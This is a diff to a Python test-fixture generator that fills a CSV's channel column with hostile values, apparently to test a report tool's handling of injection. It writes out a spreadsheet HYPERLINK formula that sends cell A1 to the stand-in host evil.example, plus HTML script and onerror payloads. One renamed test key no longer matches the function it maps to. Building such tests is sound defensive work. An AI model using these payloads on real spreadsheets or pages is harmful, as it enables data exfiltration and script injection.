@@ -173,7 +173,8 @@ def hostile_channels(case: Path) -> None:
     column = header.index("channel")
     renamed = {
         "affiliate": '=HYPERLINK("http://evil.example/?q="&A1,"affiliate")',
-        "display": "<img src=x onerror=\"document.body.dataset.x='ran'\">",
+        # the top channel, so its name is in the headline and the summary sentences
+        "search": "<script>document.body.dataset.x='ran'</script>",
     }
     for row in rows:
         row[column] = renamed.get(row[column], row[column])
@@ -251,7 +252,7 @@ MAKERS: dict[str, Callable[[Path], None]] = {
     "v_long_cell": long_cell,
     "v_long_header": long_header,
     "r_overview_unreadable": overview_unreadable,
-    "r_overview_one_unreadable": overview_one_unreadable,
+    "r_overview_two_unreadable": overview_one_unreadable,
     "r_overview_utf16": overview_utf16,
     "r_batch_one_bad": batch_bad_input,
     "r_attr_hostile_channels": hostile_channels,
